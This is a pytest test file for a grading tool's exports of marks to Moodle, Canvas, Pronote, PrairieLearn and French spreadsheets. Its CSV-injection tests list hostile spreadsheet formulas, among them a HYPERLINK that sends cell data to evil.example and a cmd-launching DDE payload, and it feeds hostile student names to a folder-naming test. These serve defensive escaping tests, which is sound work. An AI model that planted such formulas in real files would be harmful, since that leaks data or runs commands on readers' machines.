"""Exports and hand marks, each export read back the way its target tool reads it: Moodle's offline
grading worksheet importer (columns found by their headers in the site's language, "Participant N"
ids, unformat_float, strtotime), Canvas's gradebook importer, French spreadsheets (`;`, decimal comma,
BOM), Pronote's paste order, PrairieLearn's result schema. Hand marks: merged without regrading, every
bad file refused with a French/English message and exit status 2."""

from __future__ import annotations

import copy
import csv
import io
import re
import statistics
from dataclasses import replace
from pathlib import Path

import pytest

from grader.cli import main
from grader.results.marks import MarksError, Unmarked, apply_marks, load_marks
from grader.results.records import load_run, write_json
from reports.exports import moodle
from tests.importers import (
    CanvasStudent,
    canvas_gradebook_import,
    moodle_worksheet_import,
    prairielearn_scores_import,
    spreadsheet,
    spreadsheet_table,
)
from tests.report_fixtures import build_run

SAMPLE_CLASS = Path(__file__).resolve().parents[2] / "exercises" / "exemples"
IDENTITIES = {
    "alice": ("Alice Martin", "1001"),
    "bob": ("Bob Lefèvre", "1002"),
    "chloé durand": ("Chloé DURAND", "1003"),
    "dylan": ("Dylan Roux", "1004"),
    "index": ("Inès Index", "1005"),
}


def sample_run(lang="fr"):
    run = build_run(lang)
    for sub in run.submissions:
        sub.name, sub.participant = IDENTITIES.get(sub.id, ("", ""))
    run.submissions[0].email = "alice@lycee.fr"
    run.submissions[3].status = "not_submitted"  # dylan
    # The fixture's barème gives q2 no points; a teacher gives it 2, and q13 3.
    run.scheme["questions"]["q2"]["points"] = 2.0
    for n in (3, 5, 6, 8, 9, 12, 13, 14):
        run.scheme["questions"][f"q{n}"] = {
            "points": 3.0 if n == 13 else 0.0,
            "groups": {},
            "manual": True,
            "extension": False,
        }
    return run


@pytest.fixture
def graded(tmp_path):
    out = tmp_path / "rapport"
    out.mkdir()
    write_json(out / "results.json", sample_run())
    return out


MARKS_CSV = (
    "\ufeffEtudiant;Q2;q2 commentaire;q13;commentaire\n"
    "alice;1,5;Preuve incomplète : l'invariant manque;3;Très bon travail\n"
    "Chloe Durand;2;;0,5;\n"
    "1002;;;1;\n"
)


def marks_file(tmp_path, text=MARKS_CSV, name="notes.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def run_export(graded, *args) -> int:
    return main(["export", str(graded), *args])


def grades_by_id(out: Path) -> dict[str, dict]:
    """OUT/grades.csv as French Excel shows it, by the students' ids."""
    return spreadsheet_table(out / "grades.csv", "Identifiant")


# --- Hand marks -------------------------------------------------------------------------------------


def test_marks_merge_into_totals_without_regrading(graded, tmp_path, monkeypatch):
    import grader.judge.engine

    def no_grading(*a, **k):
        raise AssertionError("exporting must not grade")

    monkeypatch.setattr(grader.judge.engine, "grade_submission", no_grading)
    # grades.csv and the pages are redrawn by every export: one format asked, the cheapest.
    assert run_export(graded, "--marks", str(marks_file(tmp_path)), "--format", "csv-fr") == 0
    before = load_run(graded / "results.json")
    rows = grades_by_id(graded)
    alice = next(s for s in before.submissions if s.id == "alice")
    assert rows["alice"]["Total"] == pytest.approx(alice.total + 1.5 + 3)
    assert rows["alice"]["Maximum"] == pytest.approx(alice.max + 2 + 3)
    assert rows["alice"]["q2"] == 1.5 and rows["alice"]["q13"] == 3
    assert rows["alice"]["Nom"] == "Alice Martin"  # the name as the LMS spells it, the id beside
    assert rows["chloé durand"]["q13"] == 0.5  # named by display name, accents and case aside
    assert rows["bob"]["q13"] == 1 and rows["bob"]["q2"] == ""  # by participant id; q2 not marked yet
    assert rows["index"]["q2"] == rows["index"]["q13"] == ""  # columns exist before any marking
    # Dylan handed nothing in: blank, said so, never a 0.
    assert rows["dylan"]["Statut"] == "non rendu" and rows["dylan"]["Total"] == rows["dylan"]["Note sur 20"] == ""
    # results.json keeps what was graded: marks live in their own file and are merged on the way out.
    assert not any(q.manual for s in load_run(graded / "results.json").submissions for q in s.questions)
    # Both pages show the marks and comments.
    index = (graded / "index.html").read_text(encoding="utf-8")
    assert ">q13</button>" in index and ">q2</button>" in index
    page = (graded / "alice.html").read_text(encoding="utf-8")
    assert "Preuve incomplète : l&#39;invariant manque" in page and "Très bon travail" in page
    assert "Commentaire du correcteur" in page
    # A changed mark is one more export away.
    changed = marks_file(tmp_path, MARKS_CSV.replace("alice;1,5", "alice;0,5"))
    assert run_export(graded, "--marks", str(changed), "--format", "csv-fr") == 0
    assert grades_by_id(graded)["alice"]["q2"] == 0.5


def test_marks_toml_and_merging_twice_is_idempotent(tmp_path):
    run = sample_run()
    path = marks_file(
        tmp_path,
        '[alice]\nq2 = 2\nq13 = { note = 1.5, commentaire = "Bien vu" }\n'
        'commentaire = "Soigné"\n["Bob Lefèvre"]\nq2 = 0\n',
        name="notes.toml",
    )
    marks = load_marks(path, run)
    as_graded = copy.deepcopy(run)
    once = apply_marks(run, marks)
    assert run == as_graded  # the graded run is left as it was: the merge is a copy
    twice = apply_marks(once, marks)
    for a, b in zip(once.submissions, twice.submissions):
        assert (a.total, a.max, [q.id for q in a.questions]) == (b.total, b.max, [q.id for q in b.questions])
    alice = next(s for s in once.submissions if s.id == "alice")
    q13 = next(q for q in alice.questions if q.id == "q13")
    assert (q13.score, q13.max, q13.status, q13.comment, alice.comment) == (1.5, 3.0, "partial", "Bien vu", "Soigné")
    bob = next(s for s in once.submissions if s.id == "bob")
    assert next(q for q in bob.questions if q.id == "q2").status == "failed"
    assert next(q for q in bob.questions if q.id == "q13").status == "ungraded"
    # Totals summed without binary noise (2.9 + 0.1 + 0.2 in floats is 3.1999999999999997 or 3.2 by order).
    automatic = [q for q in alice.questions if not q.manual]
    scores = [2.9, 0.1, 0.2] + [0.0] * (len(automatic) - 3)
    noisy = replace(alice, questions=[replace(q, score=m) for q, m in zip(automatic, scores)])
    merged = apply_marks(replace(once, submissions=[noisy]), {}).submissions[0]
    assert [q.score for q in merged.questions if not q.manual] == scores
    assert merged.total == 3.2
    # The exam's order; q3, worth no points in this barème, is no column.
    assert [q.id for q in alice.questions][:4] == ["q1", "q2", "q4", "q7"]


@pytest.mark.parametrize(
    "text, fr, en",
    [
        ("etudiant;q2\nzoé;1\n", "élève inconnu « zoé »", 'unknown student "zoé"'),
        ("etudiant;q2\nalcie;1\n", "noms proches : Alice Martin", "close names: Alice Martin"),
        ("etudiant;q99\nalice;1\n", "question inconnue « q99 »", 'unknown question "q99"'),
        ("etudiant;q4\nalice;1\n", "q4 est corrigée automatiquement", "q4 is graded automatically"),
        ("etudiant;q2\nalice;2,5\n", "2,5 dépasse 2 points, le maximum du barème", "2.5 is above 2 points"),
        ("etudiant;q2\nalice;beaucoup\n", "« beaucoup » n'est pas une note", '"beaucoup" is not a mark'),
        ("etudiant;q2\nalice;-1\n", "« -1 » n'est pas une note", '"-1" is not a mark'),
        ("etudiant;q3\nalice;1\n", "q3 vaut 0 point dans le barème", "q3 is worth 0 points"),
        ("etudiant;q2\nalice;1\nAlice Martin;2\n", "est déjà noté (notes.csv:2)", "is already marked (notes.csv:2)"),
        ("nom de famille;q2\nalice;1\n", "aucune colonne d'élève", "no student column"),
        ("[alice\nq2 = 1\n", "TOML invalide", "invalid TOML"),
    ],
)
def test_bad_marks_files_exit_2_with_a_message(graded, tmp_path, capsys, text, fr, en):
    path = marks_file(tmp_path, text, "notes.toml" if text.startswith("[") else "notes.csv")
    before = (graded / "results.json").read_bytes()
    for lang, expected in (("fr", fr), ("en", en)):
        assert run_export(graded, "--marks", str(path), "--lang", lang) == 2
        err = capsys.readouterr().err
        assert expected in err and "Traceback" not in err
    assert (graded / "results.json").read_bytes() == before
    assert not (graded / "exports").exists()


def test_every_problem_of_a_marks_file_is_told_at_once(tmp_path):
    path = marks_file(tmp_path, "etudiant;q2;q4\nzoé;1;\nalice;9;1\n")
    with pytest.raises(MarksError) as caught:
        load_marks(path, sample_run())
    keys = [k for k, _ in caught.value.problems]
    assert keys == ["marks.unknown_student", "marks.too_high", "marks.automatic"]
    assert "notes.csv:2" in caught.value.message("en") and "notes.csv:3" in caught.value.message("en")


def test_other_bad_inputs_exit_2(tmp_path, graded, capsys):
    assert main(["export", str(tmp_path / "nowhere")]) == 2
    assert "results.json introuvable" in capsys.readouterr().err
    (tmp_path / "broken").mkdir()
    (tmp_path / "broken" / "results.json").write_text("{not json", encoding="utf-8")
    assert main(["export", str(tmp_path / "broken"), "--lang", "en"]) == 2
    assert "unreadable" in capsys.readouterr().err
    assert run_export(graded, "--marks", str(marks_file(tmp_path, "x", "notes.xlsx"))) == 2
    assert "extension .xlsx inconnue" in capsys.readouterr().err
    for out_of, said in (("0", "0"), ("nan", "nan"), ("inf", "inf"), ("-2.5", "-2,5")):
        assert run_export(graded, "--out-of", out_of) == 2
        assert f"--out-of doit être un nombre positif (reçu {said})" in capsys.readouterr().err
    scheme = tmp_path / "bareme.toml"
    scheme.write_text("[questions.q4]\npoints = 5\n", encoding="utf-8")
    assert run_export(graded, "--scheme", str(scheme)) == 2
    assert "q4" in capsys.readouterr().err
    (tmp_path / "a-file").write_text("", encoding="utf-8")  # --to where a file is in the way
    assert run_export(graded, "--to", str(tmp_path / "a-file" / "exports"), "--lang", "en") == 2
    err = capsys.readouterr().err
    assert "cannot write" in err and "Traceback" not in err
    assert main(["gradescope", "--out", str(tmp_path / "a-file" / "x.zip")]) == 2
    assert "impossible d'écrire" in capsys.readouterr().err


def test_a_scheme_may_give_points_to_written_questions_without_regrading(graded, tmp_path):
    scheme = tmp_path / "bareme.toml"
    scheme.write_text("[questions.q3]\npoints = 1.5\n", encoding="utf-8")
    marks = marks_file(tmp_path, "etudiant;q3\nalice;1,5\n")
    assert run_export(graded, "--scheme", str(scheme), "--marks", str(marks), "--format", "csv-fr") == 0
    assert grades_by_id(graded)["alice"]["q3"] == 1.5


# --- Moodle -----------------------------------------------------------------------------------------


def moodle_import(path: Path, site_lang: str, maximum: float = 20) -> dict[str, dict]:
    """What Moodle records from the worksheet (tests/importers.py), for the participants 1000-1999."""
    participants = {str(n) for n in range(1000, 2000)}
    recorded = moodle_worksheet_import(path, site_lang, participants, maximum)
    return {n: {"grade": g.grade, "feedback": g.feedback} for n, g in recorded.items()}


@pytest.mark.parametrize("site_lang", ["fr", "en"])
def test_moodle_worksheet_reads_back_as_moodle_does(graded, tmp_path, site_lang):
    marks = ["--marks", str(marks_file(tmp_path)), "--unmarked", "zero"]  # bob's q2, index's q2 and q13: 0
    assert run_export(graded, *marks, "--format", "moodle", "--site-lang", site_lang) == 0
    imported = moodle_import(graded / "exports" / "moodle-feuille-de-notes.csv", site_lang)
    run = apply_marks(
        load_run(graded / "results.json"),
        load_marks(marks_file(tmp_path), load_run(graded / "results.json")),
        Unmarked.ZERO,
    )
    for sub in run.submissions:
        if sub.participant and sub.id != "dylan":
            assert imported[sub.participant]["grade"] == pytest.approx(round(sub.total / sub.max * 20, 2))
    assert "1004" not in imported  # dylan handed nothing in: a blank grade, which Moodle skips (a 0 it would record)
    alice = imported["1001"]["feedback"]
    assert "Preuve incomplète" in alice and "Très bon travail" in alice
    assert re.search(r"q4</b> 2/2", alice)
    status = {"fr": "Aucun travail remis", "en": "No submission"}[site_lang]
    rows = list(csv.reader(io.StringIO((graded / "exports" / "moodle-feuille-de-notes.csv").read_text("utf-8"))))
    assert [r[3] for r in rows[1:] if r[0].endswith("1004")] == [status]  # dylan handed nothing in
    assert [r[2] for r in rows[1:] if r[0].endswith("1001")] == ["alice@lycee.fr"]  # from the roster
    bob = imported["1002"]["feedback"]
    assert (
        "alors qu&#x27;une solution optimale est de profondeur 3" in bob
    )  # the first reason q4 lost points, escaped for Moodle's HTML


def test_moodle_worksheet_downloaded_from_moodle_is_filled_and_kept(graded, tmp_path, capsys):
    """The teacher's own worksheet (French site, extra columns, a student who is not in the run): the
    grade and comments are filled in, everything else stays as Moodle wrote it."""
    h = moodle.HEADERS["fr"]
    header = [
        h["id"],
        h["name"],
        h["email"],
        h["status"],
        h["grade"],
        h["max"],
        h["changeable"],
        h["submitted"],
        "Texte en ligne",
        h["modified"],
        h["feedback"],
    ]
    rows = [
        [
            "Participant1001",
            "Alice Martin",
            "alice@lycee.fr",
            "Remis pour évaluation",
            "",
            "10,00",
            "Oui",
            "lundi 3 juin 2024, 10:00",
            "<p>réponse</p>",
            "-",
            "",
        ],
        ["Participant1099", "Zoé Absente", "zoe@lycee.fr", "Aucun travail remis", "", "10,00", "Oui", "-", "", "-", ""],
        [
            "Participant1777",
            "Chloé Durand",
            "chloe@lycee.fr",
            "Remis pour évaluation",
            "",
            "10,00",
            "Oui",
            "-",
            "",
            "-",
            "",
        ],
    ]
    worksheet = tmp_path / "Feuille d'évaluation-TP-Taquin-42.csv"
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, *rows])
    worksheet.write_text("\ufeff" + buffer.getvalue(), encoding="utf-8")
    assert run_export(graded, "--format", "moodle", "--moodle-worksheet", str(worksheet), "--unmarked", "zero") == 0
    err = capsys.readouterr().err
    out = graded / "exports" / "moodle-feuille-de-notes.csv"
    filled = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert filled[0] == header
    alice, zoe, chloe = filled[1:]
    assert alice[:4] == rows[0][:4] and alice[7:9] == rows[0][7:9]
    run = apply_marks(load_run(graded / "results.json"), unmarked=Unmarked.ZERO)
    by_id = {s.id: s for s in run.submissions}
    assert float(alice[4].replace(",", ".")) == pytest.approx(round(by_id["alice"].total / by_id["alice"].max * 10, 2))
    assert zoe == rows[1]  # not in the run: untouched, Moodle skips an empty grade
    # Matched by name when the participant id differs (accents and case aside).
    assert chloe[4] != "" and "q18" in chloe[10]
    imported = moodle_import(out, "fr", maximum=10)
    assert set(imported) == {"1001", "1777"}
    assert "bob" in err and "dylan" in err  # students of the run with no row are named
    # --out-of is the worksheet's maximum grade (Moodle skips a grade above it), and the teacher is told.
    assert "la note maximale du devoir est 10" in err
    assert grades_by_id(graded)["alice"]["Note sur 10"] == pytest.approx(
        round(by_id["alice"].total / by_id["alice"].max * 10, 2)
    )


def test_a_file_that_is_not_a_moodle_worksheet_is_refused(graded, tmp_path, capsys):
    other = marks_file(tmp_path, "a,b,c\n1,2,3\n", "autre.csv")
    assert run_export(graded, "--format", "moodle", "--moodle-worksheet", str(other), "--lang", "en") == 2
    assert "is not a Moodle grading worksheet" in capsys.readouterr().err


# --- Canvas, spreadsheets, Pronote, statistics, PrairieLearn -----------------------------------------


CANVAS_STUDENTS = [
    CanvasStudent("501", "Alice Martin", "Martin, Alice", "SIS-9001", "alice@lycee.fr"),
    CanvasStudent("502", "Bob Lefèvre", "Lefèvre, Bob", "SIS-9002", "blefevre"),
    CanvasStudent("503", "Chloé Durand", "Durand, Chloé", "SIS-9003", "cdurand"),
    CanvasStudent("504", "Dylan Roux", "Roux, Dylan", "SIS-9004", "droux"),
    CanvasStudent("505", "Inès Index", "Index, Inès", "SIS-9005", "iindex"),
    CanvasStudent("506", "Zoé Autre", "Autre, Zoé", "SIS-9006", "zautre"),
    # Another Canvas student whose SIS User ID is a Moodle participant number of ours: never matched.
    CanvasStudent("507", "Marc Piège", "Piège, Marc", "1001", "mpiege"),
]


def _canvas_export(tmp_path) -> Path:
    """A gradebook as Canvas exports it: its own ids, a current score column, another assignment, the
    taquin assignment already created with 40 points possible, a student we never graded."""
    rows = [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Devoir 1 (111)", "Taquin (4242)", "Current Score"],
        ["    Points Possible", "", "", "", "", "10.00", "40.00", "(read only)"],
        *[
            [s.sortable_name, s.id, s.sis_user_id, s.login_id, "MP2I", "7.5", "", "75"]
            for s in CANVAS_STUDENTS
            if s.name != "Inès Index"
        ],
    ]
    path = tmp_path / "2024-06-03T1000_Grades-MP2I.csv"
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    path.write_text("\ufeff" + buffer.getvalue(), encoding="utf-8")
    return path


def test_canvas_gradebook_without_canvas_ids_matches_by_name_only(graded, capsys):
    options = ["--canvas-assignment", "Taquin (4242)", "--out-of", "100", "--unmarked", "zero"]
    assert run_export(graded, "--format", "canvas", *options) == 0
    assert "--canvas-gradebook" in capsys.readouterr().err  # the teacher is told the better way
    path = graded / "exports" / "canvas-gradebook.csv"
    rows = list(csv.reader(path.open(encoding="utf-8")))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Taquin (4242)"]
    # No id of another system in Canvas's id columns: Moodle's 1001 is another Canvas student's SIS id.
    assert all(row[1:5] == ["", "", "", ""] for row in rows[1:])
    imported = canvas_gradebook_import(path, CANVAS_STUDENTS)
    assert imported.points_possible == {"Taquin (4242)": "100"}
    run = apply_marks(load_run(graded / "results.json"), unmarked=Unmarked.ZERO)
    by_name = {s.name: s for s in run.submissions}
    for student in CANVAS_STUDENTS[:5]:
        sub = by_name[student.name if student.name != "Chloé Durand" else "Chloé DURAND"]
        if sub.id == "dylan":  # not submitted: no score, never a 0
            assert imported.grades.get(student.id, {}) == {}
        elif sub.id != "chloé durand":  # "DURAND, Chloé" is neither Canvas's name nor its sortable name
            expected = round(sub.total / sub.max * 100, 2)
            assert float(imported.grades[student.id]["Taquin (4242)"]) == pytest.approx(expected)
    assert "507" not in imported.grades  # Marc's SIS User ID is 1001: Moodle's number for Alice is not written


def test_canvas_own_gradebook_is_filled_with_canvas_ids(graded, tmp_path, capsys):
    export = _canvas_export(tmp_path)
    options = ["--canvas-gradebook", str(export), "--canvas-assignment", "Taquin (4242)", "--unmarked", "zero"]
    assert run_export(graded, "--format", "canvas", *options) == 0
    err = capsys.readouterr().err
    assert "index" in err and "<script>" in err  # students of ours Canvas has no row for are named
    path = graded / "exports" / "canvas-gradebook.csv"
    before = list(csv.reader(io.StringIO(export.read_text(encoding="utf-8-sig"))))
    after = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert after[0] == before[0]  # the same columns: the assignment updated in place
    taquin = before[0].index("Taquin (4242)")
    for old, new in zip(before, after):  # every other cell as Canvas wrote it
        assert old[:taquin] + old[taquin + 1 :] == new[:taquin] + new[taquin + 1 :]
    imported = canvas_gradebook_import(path, CANVAS_STUDENTS)
    assert imported.new_students == []
    run = apply_marks(load_run(graded / "results.json"), unmarked=Unmarked.ZERO)
    by_id = {s.id: s for s in run.submissions}
    # Canvas's points possible for the assignment (40) is what the grades are on.
    for canvas_id, ours in (("501", "alice"), ("502", "bob"), ("503", "chloé durand")):
        expected = round(by_id[ours].total / by_id[ours].max * 40, 2)
        assert float(imported.grades[canvas_id]["Taquin (4242)"]) == pytest.approx(expected)
    assert "Taquin (4242)" not in imported.grades["504"]  # dylan: not submitted, no score
    assert "Taquin (4242)" not in imported.grades["506"] and imported.grades["506"]["Devoir 1 (111)"] == "7.5"
    assert "Taquin (4242)" not in imported.grades["507"]


def test_a_file_that_is_not_a_canvas_gradebook_is_refused(graded, tmp_path, capsys):
    other = marks_file(tmp_path, "nom;note\nalice;3\n", "autre.csv")
    assert run_export(graded, "--format", "canvas", "--canvas-gradebook", str(other)) == 2
    assert "n'est pas un carnet de notes exporté de Canvas" in capsys.readouterr().err
    assert run_export(graded, "--format", "canvas", "--canvas-gradebook", str(tmp_path / "absent.csv")) == 2


def test_french_spreadsheet_opens_in_columns(graded, tmp_path):
    assert run_export(graded, "--format", "csv-fr", "--marks", str(marks_file(tmp_path))) == 0
    rows = spreadsheet(graded / "exports" / "notes-tableur.csv")  # French Excel: `;`, decimal comma, BOM
    header = rows[0]
    assert header[:4] == ["Nom", "Identifiant", "Participant", "Statut"] and header[-1] == "Note sur 20"
    assert "q2" in header and "q13" in header  # the written questions are columns
    alice = dict(zip(header, next(r for r in rows if r[1] == "alice")))
    assert alice["q2"] == 1.5 and alice["Nom"] == "Alice Martin" and alice["Statut"] == "corrigé"
    assert all(len(r) == len(header) for r in rows)
    numbers = header.index("q1")
    assert all(isinstance(c, float) or c == "" for r in rows[1:] for c in r[numbers:])  # no "12.5" as text
    dylan = dict(zip(header, next(r for r in rows if r[1] == "dylan")))
    assert dylan["Statut"] == "non rendu" and {dylan[q] for q in header[numbers:-2]} == {""}
    # The French table is grades.csv's French form: one writer.
    assert (graded / "exports" / "notes-tableur.csv").read_bytes() == (graded / "grades.csv").read_bytes()


def test_grades_csv_follows_the_language_of_the_run(tmp_path):
    out = tmp_path / "run"
    out.mkdir()
    write_json(out / "results.json", sample_run("en"))
    assert run_export(out, "--format", "stats") == 0
    rows = spreadsheet_table(out / "grades.csv", "Id", delimiter=",", decimal=".")
    assert rows["dylan"]["Status"] == "not submitted" and rows["dylan"]["Grade out of 20"] == ""
    # q2 and q13 are worth points and nobody is marked yet: no total is a grade yet.
    assert rows["alice"]["Name"] == "Alice Martin" and rows["alice"]["Status"] == "to be marked: q2, q13"
    assert rows["alice"]["Total"] == rows["alice"]["Grade out of 20"] == "" and isinstance(rows["alice"]["q4"], float)


def test_pronote_sheet_in_pronote_order_on_20(graded):
    assert run_export(graded, "--format", "pronote") == 0  # nobody marked yet: every grade waits, blank
    assert {grade for _, grade in spreadsheet(graded / "exports" / "pronote.csv")[1:]} == {"", "N.Rdu"}
    assert run_export(graded, "--format", "pronote", "--unmarked", "zero") == 0
    rows = spreadsheet(graded / "exports" / "pronote.csv")
    assert rows[0] == ["Élève", "Note sur 20"]
    names = [r[0] for r in rows[1:]]
    assert "DURAND Chloé" in names and "MARTIN Alice" in names and "LEFÈVRE Bob" in names
    families = [n.split()[0] for n in names]
    assert families == sorted(families, key=lambda f: f.replace("È", "E").casefold())
    grades = dict(rows[1:])
    assert grades["ROUX Dylan"] == "N.Rdu"  # Pronote's "non rendu", which counts in no average
    assert all(0 <= g <= 20 for name, g in grades.items() if name != "ROUX Dylan")


def test_question_statistics_match_an_independent_count(graded, tmp_path):
    assert run_export(graded, "--format", "stats", "--marks", str(marks_file(tmp_path))) == 0
    rows = list(
        csv.DictReader(
            io.StringIO((graded / "exports" / "statistiques-questions.csv").read_bytes().decode("utf-8-sig")),
            delimiter=";",
        )
    )
    by_q = {r["Question"]: r for r in rows}
    run = load_run(graded / "results.json")
    handed_in = [s for s in run.submissions if s.id != "dylan"]  # dylan's stubs are no copy: not counted
    # A copy without q4 (the hostile student's) answered nothing of it: 0, as on the class page.
    q4 = [next((q for q in s.questions if q.id == "q4"), None) for s in handed_in]
    scores = [q.score if q else 0.0 for q in q4]
    full = [q is not None and q.score >= q.max for q in q4]
    assert by_q["q4"]["Copies comptées"] == str(len(scores))
    assert float(by_q["q4"]["Moyenne"].replace(",", ".")) == pytest.approx(statistics.mean(scores), abs=0.01)
    assert float(by_q["q4"]["Médiane"].replace(",", ".")) == pytest.approx(statistics.median(scores), abs=0.01)
    assert float(by_q["q4"]["Taux de réussite (%)"].replace(",", ".")) == pytest.approx(
        100 * sum(full) / len(full), abs=0.01
    )
    # Written questions: only the marked copies count (alice 3, chloé 0.5, bob 1).
    assert by_q["q13"]["Copies comptées"] == "3" and by_q["q13"]["Médiane"] == "1"


def test_prairielearn_score_upload_reads_back_as_prairielearn_does(tmp_path, capsys):
    """PrairieLearn's "Upload new question scores" (tests/importers.py, from score-upload.ts): one row
    per student with a uid (the roster's email), the score in percent, the feedback; the student
    without an email is named, the one who handed nothing in has no row."""
    run = sample_run("en")
    emails = {"alice": "alice@lycee.fr", "bob": "bob@lycee.fr", "chloé durand": "chloe@lycee.fr", "dylan": "d@l.fr"}
    for sub in run.submissions:
        sub.email = emails.get(sub.id, "")
    # A very long feedback must not overflow PrairieLearn's 10 000-character record.
    run.submissions[1].comment = "très long " * 2000
    out = tmp_path / "rapport"
    out.mkdir()
    write_json(out / "results.json", run)
    options = ["--prairielearn-qid", "taquin-xens", "--lang", "en", "--unmarked", "zero"]
    assert run_export(out, "--format", "prairielearn", *options) == 0
    assert "index" in capsys.readouterr().err  # no uid: named
    scores = prairielearn_scores_import(out / "exports" / "prairielearn-scores.csv")
    by_uid = {s.uid: s for s in scores}
    assert set(by_uid) == {"alice@lycee.fr", "bob@lycee.fr", "chloe@lycee.fr"}  # dylan: not submitted, no row
    merged = {s.id: s for s in apply_marks(load_run(out / "results.json"), unmarked=Unmarked.ZERO).submissions}
    for sid in ("alice", "bob", "chloé durand"):
        score = by_uid[emails[sid]]
        assert (score.instance, score.qid) == (1, "taquin-xens")
        assert score.score_perc == pytest.approx(round(merged[sid].total / merged[sid].max * 100, 2))
        assert score.feedback["manual"].startswith("Total: ")
    assert "q4 : 2/2" in by_uid["alice@lycee.fr"].feedback["manual"]


# --- Spreadsheet formulas (CSV injection) -----------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Voir")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"]


def test_no_csv_a_person_opens_holds_a_formula(tmp_path):
    """Display names, emails and the teacher's comments that a spreadsheet would run (OWASP's "CSV
    injection": cells starting with = + - @, a tab or a carriage return) are written as text in every
    CSV of `grader export` and in grades.csv; grades stay numbers, the importers' files importable."""
    run = sample_run()
    for sub, formula in zip(run.submissions, FORMULAS):
        sub.name = formula
    run.submissions[1].email = "=cmd@evil.example"
    out = tmp_path / "rapport"
    out.mkdir()
    write_json(out / "results.json", run)
    marks = marks_file(tmp_path, 'etudiant;q2;q13;commentaire\nalice;1;2;"=1+1 bravo"\n')
    spreadsheets = ("csv-fr", "pronote", "stats", "moodle", "canvas")  # every CSV a person opens
    assert run_export(out, "--marks", str(marks), *(a for f in spreadsheets for a in ("--format", f))) == 0
    exports = out / "exports"
    text = {
        out / "grades.csv": {},
        exports / "notes-tableur.csv": {},
        exports / "pronote.csv": {},
        exports / "statistiques-questions.csv": {},
        exports / "moodle-feuille-de-notes.csv": {"delimiter": ",", "bom": False},
        exports / "canvas-gradebook.csv": {"delimiter": ",", "decimal": ".", "bom": False},
    }
    seen = set()
    for path, how in text.items():
        for row in spreadsheet(path, **how):  # raises Formula on a cell a spreadsheet would run
            seen.update(c for c in row if isinstance(c, str))
    for formula in FORMULAS[:4]:
        assert formula in seen  # still there, as text
    assert "=cmd@evil.example" in seen
    # The grades are numbers still: Moodle's importer reads them (tests/importers.py).
    imported = moodle_import(exports / "moodle-feuille-de-notes.csv", "fr")
    assert imported["1001"]["grade"] > 0


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-x", "'-x"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12,5", "-12,5"),  # a negative number is a number: importers read it so
        ("+3.5", "+3.5"),
        ("-", "-"),  # Moodle's placeholder: a lone character runs nothing
        ("Alice", "Alice"),
        (12.5, "12.5"),
    ],
)
def test_spreadsheet_cell_follows_owasp(cell, written):
    from grader.results.gradebook import spreadsheet_cell

    assert spreadsheet_cell(cell) == written


# --- The class page: absentees counted apart --------------------------------------------------------


def test_a_copy_on_paper_marked_by_hand_is_work_handed_in(tmp_path):
    """Dylan submitted no code but his written answers were marked: he has a grade (0 for the code)."""
    run = sample_run()
    dylan = next(s for s in run.submissions if s.id == "dylan")
    assert not dylan.has_grade
    marked = apply_marks(run, load_marks(marks_file(tmp_path, "etudiant;q13\ndylan;2\n"), run))
    dylan = next(s for s in marked.submissions if s.id == "dylan")
    assert dylan.has_grade and dylan.total == 2


def test_the_class_page_counts_absentees_apart(tmp_path):
    """Dylan handed nothing in: a "non rendu" badge in his row, no score, and left out of the
    histogram and of the pass rates (6 students, 5 graded), counted apart in the heading."""
    from reports.render import render_class

    run = sample_run()
    index = render_class(run, tmp_path)
    page = index.read_text(encoding="utf-8")
    assert "6 élèves · 1 non rendu ·" in page
    row = re.search(r"<tr>\s*<td class=\"name\" data-sort=\"Dylan Roux\">.*?</tr>", page, re.S)[0]  # named
    assert '<span class="badge sub-apart">non rendu</span>' in row
    assert "st-missing" not in row and "st-not_implemented" not in row  # no stub cells, no score
    counts = [
        int(n)
        for n in re.findall(r'<text x="[\d.]+" y="[\d.]+" text-anchor="middle" font-size="12">(\d+)</text>', page)
    ]
    assert sum(counts) == 5  # the histogram's bars count the graded copies only


def test_feedback_folders_from_hostile_names_are_clean_distinct_and_never_the_zips_own(tmp_path):
    """Names a student chose: a bidi override, a tab, a zero-width space, Windows' forbidden characters,
    two names equal where case does not count, and a student whose id is the zip's own name: every
    folder written is clean and distinct, the zip is made and files each participant once."""
    from reports.exports.feedback import CLASS_PDF, ZIP, write_feedback
    from tests.importers import moodle_feedback_zip_import

    run = build_run("fr")
    hostile = [
        ("\u202eeciréhT", "2001"),  # shown reversed: the override is dropped, the letters stay
        ("Zoé\tN\u200b'Diaye<>:|", "2002"),
        ("", ""),  # no participant: a folder named by its id, out of the zip
        ("Zoé N'DIAYE", "2003"),
    ]
    for sub, (name, participant) in zip(run.submissions, hostile):
        sub.name, sub.participant = name, participant
    run.submissions[2].id = "feedback-moodle.zip"
    written = write_feedback(run, tmp_path / "retours")
    names = [p.name for p in (tmp_path / "retours").iterdir()]
    assert sorted(names) == sorted({n.casefold(): n for n in names}.values())  # apart without case
    assert (tmp_path / "retours" / ZIP).is_file() and (tmp_path / "retours" / CLASS_PDF).is_file()
    assert not any(c in "".join(names) for c in "\u202e\u200b\t<>:|")
    assert "eciréhT_2001_assignfeedback_file_" in names and "Zoé N'Diaye_2002_assignfeedback_file_" in names
    filed = moodle_feedback_zip_import(tmp_path / "retours" / ZIP, {"2001", "2002", "2003"}, "4.1")
    assert set(filed) == {"2001", "2002", "2003"} and all(len(files) == 2 for files in filed.values())
    assert len(written) == len(run.submissions) + 2
